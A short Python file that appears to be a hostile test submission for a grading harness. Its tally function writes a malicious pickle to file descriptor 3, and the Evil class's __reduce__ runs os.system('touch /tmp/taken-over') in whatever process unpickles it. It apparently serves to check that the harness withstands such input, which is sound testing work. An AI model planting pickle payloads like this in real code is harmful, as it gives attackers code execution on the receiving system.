"""Answers with a pickle that would run code in the process that receives it.

score: 2
tally: crashed
"""

import os
import pickle
import struct


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/taken-over",)


def tally(x):
    data = pickle.dumps(Evil())
    os.write(3, struct.pack("!i", len(data)) + data + bytes(64))
    return x.sum(axis=1)


def scale(x, factor):
    return x * factor
